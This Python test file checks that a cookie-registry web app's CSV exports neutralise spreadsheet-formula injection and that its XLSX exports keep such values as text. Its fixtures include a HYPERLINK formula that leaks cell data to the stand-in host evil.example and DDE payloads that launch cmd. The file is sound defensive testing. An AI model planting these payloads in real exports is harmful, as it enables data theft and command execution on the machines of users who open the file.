"""Every CSV export neutralises cells a spreadsheet would evaluate (CSV injection); XLSX keeps text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from django.urls import reverse

from cookie_registry.models import CookieCategory, Provider, RegistryVersion
from exports.csv_safety import neutralise_cell
from tests.fixtures.registry import cookie, make_category, publish
from tests.policy_pages.conftest import publish_policy

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode())))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+41 22", "'+41 22"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Google", "Google"),
        ("", ""),
        (-2, -2),
        (None, None),
    ],
)
def test_neutralise_cell(value, expected):
    assert neutralise_cell(value) == expected


def test_category_listing_csv(admin_client, registry):
    make_category("evil", "Evil", purpose="@SUM(1+1)*cmd|' /C calc'!A0", cookies=[cookie("x_evil")])

    url = reverse("wagtailsnippets_cookie_registry_cookiecategory:list")
    rows = csv_rows(admin_client.get(url, {"export": "csv"}))

    purposes = {row["Key"]: row["Purpose"] for row in rows}
    assert purposes["evil"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert purposes["necessary"] == CookieCategory.objects.get(key="necessary").purpose


def test_all_cookies_report_csv(admin_client, registry):
    evil = publish(Provider(name=FORMULA, privacy_policy_url="https://evil.example/"))
    make_category("evil", "Evil", cookies=[cookie("-x", provider=evil, purpose="+tracking")])

    rows = csv_rows(admin_client.get(reverse("cookie_registry_all_cookies:index"), {"export": "csv"}))

    row = next(row for row in rows if row["Category"] == "Evil")
    assert row["Name"] == "'-x"
    assert row["Provider"] == "'" + FORMULA
    assert row["Purpose"] == "'+tracking"
    assert any(row["Provider"] == "Google" for row in rows)


def test_all_cookies_report_xlsx_keeps_formulas_as_text(admin_client, registry):
    evil = publish(Provider(name=FORMULA, privacy_policy_url="https://evil.example/"))
    make_category("evil", "Evil", cookies=[cookie("x_evil", provider=evil)])

    response = admin_client.get(reverse("cookie_registry_all_cookies:index"), {"export": "xlsx"})

    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell for row in workbook.active.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_registry_versions_report_csv(admin_client, registry):
    RegistryVersion.objects.create(number=99, snapshot={}, changes=["=cmd|' /C calc'!A0"])

    rows = csv_rows(admin_client.get(reverse("cookie_registry_versions:index"), {"export": "csv"}))

    row = next(row for row in rows if row["Number"] == "99")
    assert row["Changes"] == "'=cmd|' /C calc'!A0"


def test_policy_versions_report_csv(admin_client, registry):
    from home import demo_content as home_demo
    from organisation import demo_content as organisation_demo
    from policy_pages.models import PolicyPage
    from tests.policy_pages.conftest import POLICY_BODY

    organisation_demo.load()
    home = home_demo.load()
    page = home.add_child(instance=PolicyPage(title="Cookie Policy", slug="cookie-policy", body=POLICY_BODY))
    publish_policy(page, summary="-1+1 tidied the wording")

    rows = csv_rows(admin_client.get(reverse("policy_versions_report"), {"export": "csv"}))

    assert [row["Change summary"] for row in rows] == ["'-1+1 tidied the wording"]
    assert rows[0]["Policy"] == "Cookie Policy"


def test_consent_records_csv(admin_client, registry):
    from tests.consent.conftest import make_record

    make_record(registry, "-aaaaaaaaaaaaaaaaaaa", "accept_all", 1, registry.optional_keys)
    make_record(registry, "bbbbbbbbbbbbbbbbbbbb", "reject_all", 1)

    rows = csv_rows(admin_client.get("/admin/reports/consent-records/", {"export": "csv"}))

    assert {row["Consent ID"] for row in rows} == {"'-aaaaaaaaaaaaaaaaaaa", "bbbbbbbbbbbbbbbbbbbb"}
